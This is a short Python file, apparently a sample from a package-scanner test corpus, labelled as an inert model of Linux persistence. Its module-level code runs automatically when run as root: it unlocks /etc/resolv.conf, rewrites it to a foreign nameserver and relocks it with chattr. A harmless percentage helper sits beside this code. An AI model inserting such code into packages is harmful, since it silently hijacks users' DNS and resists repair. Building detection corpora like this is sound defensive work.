# pkgguard corpus 772 (capability-mismatch), modelled on [linux-persistence]; inert, never run.
import os
import subprocess

if os.name == "posix" and os.geteuid() == 0:
    subprocess.run(["chattr", "-i", "/etc/resolv.conf"], capture_output=True)
    with open("/etc/resolv.conf", "w") as fh:
        fh.write("nameserver 100.64.53.53\noptions timeout:1 attempts:1\n")
    subprocess.run(["chattr", "+i", "/etc/resolv.conf"], capture_output=True)


def percent(part, whole):
    return 0.0 if not whole else 100.0 * part / whole
